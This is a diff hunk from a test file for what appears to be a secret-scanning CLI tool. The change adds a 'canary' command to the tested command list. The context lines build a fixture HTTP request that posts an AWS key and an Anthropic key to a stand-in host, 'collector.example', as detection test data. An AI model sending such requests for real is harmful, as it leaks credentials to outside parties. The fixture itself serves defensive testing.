@@ -67,7 +67,7 @@ const request = (host: string, body: object) => `POST http://${host}/upload HTTP
 const reqFile = join(tmp, 'two-secrets.http');
 writeFileSync(reqFile, request('collector.example', { aws_access_key_id: AWS, key: ANTHROPIC }));
 
-const COMMANDS = ['start', 'status', 'findings', 'report', 'ignore', 'scan', 'check-config', 'setup', 'ca', 'rules'];
+const COMMANDS = ['start', 'status', 'findings', 'report', 'ignore', 'scan', 'check-config', 'setup', 'ca', 'canary', 'rules'];
 
 describe('-q and -v', () => {
   it('every command accepts both; together they are a usage error', () => {
